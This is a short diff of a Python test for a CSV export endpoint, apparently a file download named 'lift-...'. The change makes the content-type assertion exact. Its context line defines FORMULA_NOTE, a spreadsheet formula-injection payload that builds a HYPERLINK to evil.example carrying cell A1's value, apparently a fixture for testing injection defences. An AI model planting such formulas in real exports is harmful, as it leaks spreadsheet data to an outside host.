@@ -20,7 +20,7 @@ FORMULA_NOTE = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")'
 
 def read(response) -> list[dict[str, str]]:
     assert response.status_code == 200, response.text[:500]
-    assert response.headers["content-type"].startswith("text/csv")
+    assert response.headers["content-type"] == "text/csv; charset=utf-8"
     assert response.headers["content-disposition"].startswith("attachment; filename=\"lift-")
     body = response.content.decode("utf-8")
     rows = list(csv.DictReader(io.StringIO(body, newline="")))
